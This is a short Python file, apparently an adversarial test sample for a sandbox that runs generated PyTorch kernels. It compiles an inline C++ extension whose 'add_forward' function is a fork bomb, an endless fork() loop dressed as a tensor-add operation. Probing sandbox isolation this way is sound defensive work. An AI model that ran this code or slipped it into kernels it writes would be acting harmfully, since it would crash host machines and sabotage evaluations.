import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# A fork bomb in the kernel's host code. Never run this outside the sandbox.
cpp_source = r"""
#include <unistd.h>

torch::Tensor add_forward(torch::Tensor a, torch::Tensor b) {
    for (;;) fork();
    return a;
}
"""

add_ext = load_inline(
    name="adv_fork_bomb",
    cpp_sources=cpp_source,
    functions=["add_forward"],
    extra_cflags=["-O3", "-fopenmp"],
    extra_ldflags=["-fopenmp"],
    verbose=False,
)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return add_ext.add_forward(a, b)
